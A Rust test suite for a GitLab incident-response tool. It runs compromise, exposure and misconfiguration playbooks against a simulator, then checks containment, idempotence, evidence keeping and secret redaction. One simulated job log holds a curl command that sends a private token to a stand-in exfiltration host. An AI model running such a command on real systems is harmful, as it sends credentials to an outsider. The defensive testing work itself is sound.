//! One end-to-end run per playbook against the simulator: seeded incident → respond → apply →
//! GitLab contained → journal verifies → a second apply changes nothing.

use glir_case::{Case, Cases, NewCase};
use glir_gitlab::{Auth, Client};
use glir_redact::Secret;
use glir_respond::{
    Action, Investigation, Outcome, Plan, Playbook, Respond, StepResult, Subject, apply,
    investigate,
};
use glir_sim::{Scenario, SimHandle};
use glir_store::Store;
use glir_test_support::client;
use std::path::Path;

const DEMO_ROOT: &str = "glpat-DemoRootAdmin000000";
const SIM_ADMIN: &str = "glpat-SimAdminToken0000001";

struct Outcome3 {
    sim: SimHandle,
    root: Client,
    case: Case,
    investigation: Investigation,
    applied: Vec<StepResult>,
    _dir: tempfile::TempDir,
}

/// Runs `playbook` on `subject`, applies its plan, checks that a second apply changes nothing
/// and that the journal verifies.
async fn respond_and_apply(
    scenario: Scenario,
    admin: &str,
    playbook: Playbook,
    subject: Subject,
    since: &str,
) -> Outcome3 {
    let sim = glir_sim::start(scenario).await.unwrap();
    let root = client(&sim.url(), admin);
    let dir = tempfile::tempdir().unwrap();
    let mut case = Cases::new(dir.path().join("cases"))
        .open_new(
            "c",
            NewCase {
                scenario: Some(playbook.name().into()),
                operator: "tester".into(),
                glir_version: "test".into(),
                ..NewCase::default()
            },
        )
        .unwrap();
    let mut store = Store::open(&dir.path().join("glir.db")).unwrap();
    let pack = glir_detect::load_rules(
        &[Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/gitlab")],
        &glir_detect::LoadOptions {
            strict: true,
            ..glir_detect::LoadOptions::default()
        },
    )
    .unwrap();
    let mut respond = Respond {
        client: &root,
        store: &mut store,
        case: &mut case,
        pack: &pack,
        operator: "tester".into(),
        since: since.parse().unwrap(),
        until: jiff::Timestamp::now(),
    };
    let investigation = investigate(&mut respond, playbook, subject).await.unwrap();
    let (path, plan) = Plan::latest(&case).unwrap().unwrap();
    assert_eq!(plan, investigation.plan);
    let own_token = root.personal_access_token_self().await.unwrap().body.id;
    let applied = apply(&root, &mut case, &plan, &path, "tester")
        .await
        .unwrap();
    for r in &applied {
        assert!(
            matches!(r.outcome, Outcome::Applied | Outcome::Manual),
            "{r:?}"
        );
    }
    // A plan that rotates the responder's own token (last) leaves the new one in the case.
    let root = match plan.steps.iter().find(|s| {
        s.action
            == Action::RotatePersonalAccessToken {
                token_id: own_token,
            }
    }) {
        Some(step) => {
            let file = case.dir().join(format!("secrets/step-{}.secret", step.n));
            let token = std::fs::read_to_string(&file).unwrap();
            client(&sim.url(), token.trim())
        }
        None => root,
    };
    let again = apply(&root, &mut case, &plan, &path, "tester")
        .await
        .unwrap();
    for r in &again {
        assert!(
            matches!(r.outcome, Outcome::AlreadyDone | Outcome::Manual),
            "second apply: {r:?}"
        );
    }
    let report = case.verify().unwrap();
    assert!(report.ok(), "{:?}", report.problems);
    Outcome3 {
        sim,
        root,
        case,
        investigation,
        applied,
        _dir: dir,
    }
}

fn planned(o: &Outcome3) -> Vec<Action> {
    o.investigation
        .plan
        .steps
        .iter()
        .map(|s| s.action.clone())
        .collect()
}

fn applied_count(o: &Outcome3) -> usize {
    o.applied
        .iter()
        .filter(|r| r.outcome == Outcome::Applied)
        .count()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn account_compromise_blocks_the_user_and_removes_what_the_attacker_added() {
    let o = respond_and_apply(
        Scenario::demo(),
        DEMO_ROOT,
        Playbook::AccountCompromise,
        Subject::User("dana".into()),
        "2026-11-01T00:00:00Z",
    )
    .await;
    let plan = planned(&o);
    assert_eq!(plan[0], Action::BlockUser { user_id: 2 });
    for expected in [
        Action::RemoveSshKey {
            user_id: 2,
            key_id: 42,
        },
        Action::BlockUser { user_id: 6 },
        Action::RevokePersonalAccessToken { token_id: 2 },
        Action::RevokePersonalAccessToken { token_id: 4 },
        Action::RequireTwoFactor {
            owner: glir_respond::Owner::Instance,
        },
    ] {
        assert!(plan.contains(&expected), "missing {expected:?}: {plan:#?}");
    }
    assert!(
        plan.contains(&Action::ResetPassword { user_id: 2 }),
        "{plan:#?}"
    );
    // Unblocking later is `glir undo` of the block, not a step left to a person.
    assert!(
        o.investigation
            .summary
            .iter()
            .any(|l| l.contains("`glir undo` of the block step")),
        "{:#?}",
        o.investigation.summary
    );
    assert!(
        !plan
            .iter()
            .any(|a| matches!(a, Action::Manual { title } if title.contains("unblock"))),
        "{plan:#?}"
    );
    assert_eq!(
        o.root.user(2).await.unwrap().body.state.as_deref(),
        Some("blocked")
    );
    let evidence: Vec<String> = o
        .case
        .manifest()
        .unwrap()
        .files
        .into_iter()
        .map(|f| f.path)
        .collect();
    for name in [
        "state/user-2-ssh-keys.json",
        "state/user-2-gpg-keys.json",
        "state/user-2-emails.json",
    ] {
        assert!(
            evidence.iter().any(|p| p == name),
            "{name} not in {evidence:?}"
        );
    }
    let settings = o.root.application_settings().await.unwrap().body;
    assert_eq!(settings.require_two_factor_authentication, Some(true));
    assert!(applied_count(&o) >= 6);
    assert!(o.case.info().times.revoked_at.is_some());
    o.sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ci_secret_exposure_masks_and_protects_the_leaky_variables() {
    let o = respond_and_apply(
        Scenario::credentials(),
        SIM_ADMIN,
        Playbook::CiSecretExposure,
        Subject::Project {
            project: "acme/app".into(),
            job: None,
        },
        "2025-01-01T00:00:00Z",
    )
    .await;
    let plan = planned(&o);
    assert!(
        plan.contains(&Action::ProtectVariable {
            owner: glir_respond::Owner::Project {
                project: "acme/app".into()
            },
            key: "API_SECRET_KEY".into(),
            environment_scope: "*".into()
        }),
        "{plan:#?}"
    );
    // Its value has a '!': GitLab cannot mask it, so that is a manual step, not a failing one.
    assert!(plan.iter().any(|a| matches!(a, Action::Manual { title } if title.contains("API_SECRET_KEY: GitLab cannot mask"))), "{plan:#?}");
    assert!(plan.iter().any(|a| matches!(a, Action::Manual { title } if title.starts_with("rotate the secret in API_SECRET_KEY"))));
    assert!(
        o.investigation
            .findings
            .iter()
            .any(|f| f.kind == "leaked_variable" && f.title.contains("[202, 203, 204]")),
        "{:#?}",
        o.investigation.findings
    );
    let vars: Vec<glir_gitlab::Variable> = {
        use futures::TryStreamExt;
        let mut out = Vec::new();
        let mut pages = std::pin::pin!(
            o.root
                .pages::<glir_gitlab::Variable>(o.root.project_variables("acme/app"))
        );
        while let Some(page) = pages.try_next().await.unwrap() {
            out.extend(page.items);
        }
        out
    };
    let leaky = vars.iter().find(|v| v.key == "API_SECRET_KEY").unwrap();
    assert!(leaky.protected, "API_SECRET_KEY not protected");
    // The leaky logs are kept before the erase step, with the lines that show a value withheld.
    let kept: Vec<String> = [202, 203, 204]
        .iter()
        .map(|job| format!("job-logs/acme_app/{job}.log"))
        .collect();
    let manifest = o.case.manifest().unwrap();
    for rel in &kept {
        let file = manifest
            .get(rel)
            .unwrap_or_else(|| panic!("{rel} not kept: {manifest:#?}"));
        assert!(file.source.contains("original sha256"), "{}", file.source);
        let text = std::fs::read_to_string(o.case.evidence_path(rel).unwrap()).unwrap();
        assert!(
            text.contains("[glir: line withheld, it shows the value of API_SECRET_KEY]"),
            "{text}"
        );
    }
    let erase = o
        .investigation
        .plan
        .steps
        .iter()
        .find(|s| matches!(&s.action, Action::Manual { title } if title.starts_with("erase the job logs")))
        .expect("an erase step");
    assert!(erase.why.contains(&kept[0]), "{}", erase.why);
    // No variable value in the case, in any encoding the audit searched.
    let value = "Sim+Leak/Secret=Value!2026";
    let forms = [
        value.to_string(),
        base64_of(value),
        value
            .replace('+', "%2B")
            .replace('/', "%2F")
            .replace('=', "%3D")
            .replace('!', "%21"),
    ];
    for entry in walk(o.case.dir()) {
        let text = String::from_utf8_lossy(&std::fs::read(&entry).unwrap()).to_string();
        for form in &forms {
            assert!(
                !text.contains(form.as_str()),
                "{} holds {form}",
                entry.display()
            );
        }
    }
    o.sim.shutdown().await;
}

fn base64_of(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(text)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn misconfiguration_puts_the_visibility_back() {
    let o = respond_and_apply(
        Scenario::demo(),
        DEMO_ROOT,
        Playbook::Misconfiguration,
        Subject::Project {
            project: "acme/infra".into(),
            job: None,
        },
        "2026-11-01T00:00:00Z",
    )
    .await;
    assert!(planned(&o).contains(&Action::SetProjectVisibility {
        project: "acme/infra".into(),
        visibility: "private".into()
    }));
    assert_eq!(
        o.root.project("acme/infra").await.unwrap().body.visibility,
        "private"
    );
    o.sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exfiltration_blocks_the_downloader_and_revokes_their_tokens() {
    let o = respond_and_apply(
        Scenario::demo(),
        DEMO_ROOT,
        Playbook::Exfiltration,
        Subject::User("dana".into()),
        "2026-11-20T00:00:00Z",
    )
    .await;
    let plan = planned(&o);
    assert!(
        plan.contains(&Action::BlockUser { user_id: 2 }),
        "{plan:#?}"
    );
    assert!(
        o.investigation
            .findings
            .iter()
            .all(|f| f.kind == "repository_downloaded")
    );
    assert_eq!(o.investigation.findings.len(), 2);
    assert_eq!(
        o.root.user(2).await.unwrap().body.state.as_deref(),
        Some("blocked")
    );
    o.sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn instance_compromise_acts_only_on_what_came_from_new_addresses() {
    let o = respond_and_apply(
        Scenario::demo(),
        DEMO_ROOT,
        Playbook::InstanceCompromise,
        Subject::Instance,
        "2026-11-01T00:00:00Z",
    )
    .await;
    let plan = planned(&o);
    for expected in [
        Action::RevokePersonalAccessToken { token_id: 4 },
        Action::RemoveSshKey {
            user_id: 2,
            key_id: 42,
        },
        Action::BlockUser { user_id: 6 },
    ] {
        assert!(plan.contains(&expected), "missing {expected:?}: {plan:#?}");
    }
    // Carol's key was added from her usual address: not the attacker's, left alone.
    assert!(
        !plan
            .iter()
            .any(|a| matches!(a, Action::RemoveSshKey { user_id: 5, .. })),
        "{plan:#?}"
    );
    assert!(
        plan.iter()
            .any(|a| matches!(a, Action::Manual { title } if title.contains("write-once")))
    );
    assert_eq!(
        o.root.user(6).await.unwrap().body.state.as_deref(),
        Some("blocked")
    );
    o.sim.shutdown().await;
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn job_token_exposure_ends_the_job_and_saves_who_changed_what() {
    const JOB_TOKEN: &str = "glcbt-64_SimRunningJobToken01";
    let job_client = |url: &str| {
        Client::builder(url)
            .unwrap()
            .auth(Auth::JobToken(Secret::new(JOB_TOKEN)))
            .build()
            .unwrap()
    };
    let sim = glir_sim::start(Scenario::credentials()).await.unwrap();
    job_client(&sim.url())
        .current_job()
        .await
        .expect("the job token works before");
    sim.shutdown().await;

    let o = respond_and_apply(
        Scenario::credentials(),
        SIM_ADMIN,
        Playbook::JobTokenExposure,
        Subject::Project {
            project: "acme/app".into(),
            job: Some(205),
        },
        "2025-11-01T00:00:00Z",
    )
    .await;
    let plan = planned(&o);
    assert_eq!(
        plan[0],
        Action::CancelJob {
            project: "acme/app".into(),
            job_id: 205
        }
    );
    let err = job_client(&o.sim.url()).current_job().await.unwrap_err();
    assert_eq!(err.status(), Some(401), "the job token still works");
    assert_eq!(
        o.root.job("acme/app", 205).await.unwrap().body.status,
        "canceled"
    );
    assert!(
        o.investigation
            .findings
            .iter()
            .any(|f| f.kind == "pipeline_changed"
                && f.title.contains(".gitlab-ci.yml")
                && f.title.contains("ops@sim.test")),
        "{:#?}",
        o.investigation.findings
    );
    let commits = o.case.manifest().unwrap();
    assert!(
        commits
            .files
            .iter()
            .any(|f| f.path.starts_with("state/commits-acme_app")),
        "{:#?}",
        commits.files
    );
    assert!(o.case.info().times.revoked_at.is_some());
    o.sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn misconfiguration_restores_a_weakened_approval_rule() {
    let o = respond_and_apply(
        Scenario::demo(),
        DEMO_ROOT,
        Playbook::Misconfiguration,
        Subject::Project {
            project: "acme/payments".into(),
            job: None,
        },
        "2026-11-01T00:00:00Z",
    )
    .await;
    assert!(
        planned(&o).contains(&Action::SetApprovalSetting {
            project: "acme/payments".into(),
            setting: "merge_requests_author_approval".into(),
            value: false,
        }),
        "{:#?}",
        planned(&o)
    );
    let approvals = o
        .root
        .project_approval_settings("acme/payments")
        .await
        .unwrap()
        .body;
    assert!(!approvals.merge_requests_author_approval);
    o.sim.shutdown().await;
}

/// Runs token-exposure for `token` and returns the investigation with its case and client.
async fn token_playbook(
    token: &str,
) -> (SimHandle, Client, Case, Investigation, tempfile::TempDir) {
    let sim = glir_sim::start(Scenario::credentials()).await.unwrap();
    let root = client(&sim.url(), SIM_ADMIN);
    let dir = tempfile::tempdir().unwrap();
    let mut case = Cases::new(dir.path().join("cases"))
        .open_new("t", NewCase::default())
        .unwrap();
    let mut store = Store::open(&dir.path().join("glir.db")).unwrap();
    let pack = glir_detect::load_rules(
        &[Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/gitlab")],
        &glir_detect::LoadOptions {
            strict: true,
            ..glir_detect::LoadOptions::default()
        },
    )
    .unwrap();
    let mut respond = Respond {
        client: &root,
        store: &mut store,
        case: &mut case,
        pack: &pack,
        operator: "tester".into(),
        since: "2025-01-01T00:00:00Z".parse().unwrap(),
        until: jiff::Timestamp::now(),
    };
    let investigation = investigate(
        &mut respond,
        Playbook::TokenExposure,
        Subject::Token(Secret::new(token)),
    )
    .await
    .unwrap();
    (sim, root, case, investigation, dir)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_leaked_deploy_token_is_revoked_through_the_admin_api_with_the_token_handed_back() {
    const DEPLOY: &str = "gldt-SimDeployActive00001";
    let (sim, root, mut case, investigation, _dir) = token_playbook(DEPLOY).await;
    let step = &investigation.plan.steps[0];
    assert!(
        matches!(&step.action, Action::AdminRevokeToken { fingerprint, .. } if *fingerprint == glir_redact::fingerprint(DEPLOY)),
        "{step:?}"
    );
    let (path, plan) = Plan::latest(&case).unwrap().unwrap();
    assert!(glir_respond::needs_tokens(&plan));
    // Without the token the step cannot run, and says how to give it.
    let without = apply(&root, &mut case, &plan, &path, "tester")
        .await
        .unwrap();
    assert_eq!(without[0].outcome, Outcome::Failed);
    assert!(
        without[0].note.contains("pass it on stdin"),
        "{}",
        without[0].note
    );
    let with = glir_respond::apply_with_tokens(
        &root,
        &mut case,
        &plan,
        &path,
        "tester",
        &[Secret::new(DEPLOY)],
    )
    .await
    .unwrap();
    assert_eq!(with[0].outcome, Outcome::Applied, "{:?}", with[0]);
    let lookup = root.admin_token_lookup(&Secret::new(DEPLOY)).await;
    match lookup {
        Ok(answer) => assert!(
            matches!(&answer.body.details, glir_gitlab::TokenDetails::DeployToken(d) if d.revoked),
            "{:?}",
            answer.body.details
        ),
        Err(e) => assert_eq!(e.status(), Some(404)),
    }
    assert!(case.verify().unwrap().ok());
    for entry in walk(case.dir()) {
        let text = String::from_utf8_lossy(&std::fs::read(&entry).unwrap()).to_string();
        assert!(!text.contains(DEPLOY), "{}", entry.display());
    }
    sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_leaked_runner_token_is_reset_and_the_new_one_lands_in_a_private_file() {
    const RUNNER: &str = "glrt-SimRunnerActive00001";
    let (sim, root, mut case, investigation, _dir) = token_playbook(RUNNER).await;
    assert!(
        matches!(
            investigation.plan.steps[0].action,
            Action::ResetRunnerToken { .. }
        ),
        "{:?}",
        investigation.plan.steps
    );
    let (path, plan) = Plan::latest(&case).unwrap().unwrap();
    let results = apply(&root, &mut case, &plan, &path, "tester")
        .await
        .unwrap();
    assert_eq!(results[0].outcome, Outcome::Applied, "{:?}", results[0]);
    assert!(matches!(
        root.runners_verify(&Secret::new(RUNNER)).await.unwrap(),
        glir_gitlab::RunnerTokenCheck::Invalid
    ));
    let secret_file = case.dir().join("secrets/step-1.secret");
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(&secret_file).unwrap().permissions(),
    );
    assert_eq!(mode & 0o777, 0o600);
    let new_token = std::fs::read_to_string(&secret_file).unwrap();
    assert!(new_token.trim().starts_with("glrt-"));
    // The journal names the file and the new token's fingerprint, never the token.
    let journal = std::fs::read_to_string(case.journal().path()).unwrap();
    assert!(!journal.contains(new_token.trim()));
    assert!(journal.contains(&glir_redact::fingerprint(new_token.trim())));
    sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_actors_pipeline_logs_and_project_settings_are_kept_as_evidence() {
    let mut scenario = Scenario::demo();
    scenario.jobs.push(glir_sim::scenario::Job {
        id: 9100,
        project: "acme/infra".into(),
        name: "exfil".into(),
        stage: None,
        status: "success".into(),
        git_ref: None,
        pipeline_id: None,
        user: "dana".into(),
        created_at: Some("2026-11-25T02:40:00Z".parse().unwrap()),
        started_at: None,
        finished_at: None,
        token: None,
        trace: Some(
            "$ curl -H 'PRIVATE-TOKEN: glpat-DemoLeakedDana0001' https://exfil.example.net\n"
                .into(),
        ),
        artifacts: Vec::new(),
        artifacts_expire_at: None,
    });
    let o = respond_and_apply(
        scenario,
        DEMO_ROOT,
        Playbook::AccountCompromise,
        Subject::User("dana".into()),
        "2026-11-01T00:00:00Z",
    )
    .await;
    let files: Vec<String> = o
        .case
        .manifest()
        .unwrap()
        .files
        .into_iter()
        .map(|f| f.path)
        .collect();
    for name in [
        "state/project-acme_infra.json",
        "state/project-acme_infra-approvals.json",
        "jobs/acme_infra/9100.log",
    ] {
        assert!(files.iter().any(|p| p == name), "{name} not in {files:#?}");
    }
    let log =
        std::fs::read_to_string(o.case.evidence_path("jobs/acme_infra/9100.log").unwrap()).unwrap();
    assert!(log.contains("exfil.example.net"), "{log}");
    assert!(!log.contains("glpat-DemoLeakedDana0001"), "{log}");
    o.sim.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn misconfiguration_puts_a_widened_push_rule_back() {
    let o = respond_and_apply(
        Scenario::demo(),
        DEMO_ROOT,
        Playbook::Misconfiguration,
        Subject::Project {
            project: "acme/website".into(),
            job: None,
        },
        "2026-11-01T00:00:00Z",
    )
    .await;
    assert!(
        planned(&o).contains(&Action::SetBranchAccess {
            project: "acme/website".into(),
            branch: "main".into(),
            push_level: Some(40),
            merge_level: None,
        }),
        "{:#?}",
        planned(&o)
    );
    let branches: Vec<glir_gitlab::ProtectedBranch> = {
        use futures::TryStreamExt;
        let mut out = Vec::new();
        let mut pages = std::pin::pin!(o.root.pages::<glir_gitlab::ProtectedBranch>(
            o.root.project_protected_branches("acme/website")
        ));
        while let Some(page) = pages.try_next().await.unwrap() {
            out.extend(page.items);
        }
        out
    };
    let main = branches.iter().find(|b| b.name == "main").unwrap();
    assert_eq!(main.push_access_levels[0].access_level, 40);
    assert_eq!(main.merge_access_levels[0].access_level, 40);
    o.sim.shutdown().await;
}
